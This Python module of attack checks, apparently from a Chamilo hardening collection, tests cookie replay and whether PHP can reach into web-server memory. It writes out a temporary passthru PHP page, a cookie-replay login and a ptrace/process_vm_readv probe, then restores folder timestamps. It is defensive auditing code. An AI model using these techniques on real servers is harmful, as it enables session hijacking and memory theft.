"""Attacks on sessions: by the cookie that a browser keeps, and by the memory of the web server, which has them all."""

from __future__ import annotations

import os
import secrets

from ansible_collections.chamilo.hardening.plugins.module_utils._attacks._insider import Insider
from ansible_collections.chamilo.hardening.plugins.module_utils._common.control import Finding, attack, failed, passed
from tests.attacks.visitors import Visitor, here, test_account


@attack("sessions_remember_me", insider=True)
def come_back_later(insider: Insider) -> Finding:
    portal = here(insider)
    if portal.scheme != "https":
        raise OSError(f"{portal.domain} does not speak https, and without it Chamilo gives no cookie to keep")
    with test_account(insider) as (name, password):
        owner = Visitor(portal)
        owner.login(name, password, _remember_me=True)
        kept = {cookie: value for cookie, value in owner.cookies.items() if "remember" in cookie}
        finder = Visitor(portal)
        finder.cookies = dict(kept)
        known = b'"isAuthenticated":true' in finder.ask("/check-session").body
    if known:
        return failed(f"A later user of the device is logged in by the cookie {', '.join(kept)} alone.")
    return passed(f"A kept cookie ({', '.join(kept) or 'none is given'}) logs no user in.")


# What a page that was taken over starts. No call changes anything: it takes a copy, writes what was there, lets go.
_REACH = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
trace, read, write = {"x86_64": (101, 310, 311), "aarch64": (117, 270, 271)}[os.uname().machine]
call = lambda number, *words: libc.syscall(number, *(ctypes.c_long(word) for word in words))
for name in filter(str.isdigit, os.listdir("/proc")):
    try:
        status = open(f"/proc/{name}/status").read().split()
    except OSError:
        continue
    if status[1] in ("nginx", "apache2") and status[status.index("Uid:") + 1] == str(os.getuid()):
        pid = int(name)
        break
else:
    sys.exit("no worker of the web server runs as this user")
if call(trace, 0x4206, pid, 0, 0) == 0:
    print("ptrace")
    call(trace, 17, pid, 0, 0)
fd = call(434, pid, 0)
if fd >= 0 and call(438, fd, 0, 0) >= 0:
    print("pidfd_getfd")
try:
    place = int(next(line for line in open(f"/proc/{pid}/maps") if " rw-p " in line).split("-")[0], 16)
except OSError:
    sys.exit()
there = ctypes.create_string_buffer(8)
ours = (ctypes.c_size_t * 2)(ctypes.addressof(there), 8)
theirs = (ctypes.c_size_t * 2)(place, 8)
for name, number in (("process_vm_readv", read), ("process_vm_writev", write)):
    if call(number, pid, ctypes.addressof(ours), 1, ctypes.addressof(theirs), 1, 0) == 8:
        print(name)
"""


@attack("sessions_apart", insider=True)
def reach_into_the_web_server(insider: Insider) -> Finding:
    page = f"/reach-{secrets.token_hex(6)}.php"
    public = f"{insider.site.root}/public"
    path, status = f"{public}{page}", os.stat(public)
    with open(path, "w", encoding="utf-8") as file:
        text = _REACH.replace("\\", "\\\\").replace("'", "\\'")
        file.write(f"<?php passthru('python3 -c ' . escapeshellarg('{text}') . ' 2>&1; echo done');")
    try:
        os.chmod(path, 0o644)
        answer = here(insider).get(page)
    finally:
        os.unlink(path)
        os.utime(public, ns=(status.st_atime_ns, status.st_mtime_ns))
    words = answer.body.decode(errors="replace").split()
    if words[-1:] != ["done"]:
        raise OSError(f"the page could not try: {answer.status} {answer.error} {' '.join(words)[:200]}")
    if words[:-1]:
        return failed(f"PHP reaches into the web server by {', '.join(words[:-1])}.")
    return passed("PHP can neither trace a worker of the web server, nor read or write its memory, nor take its files.")
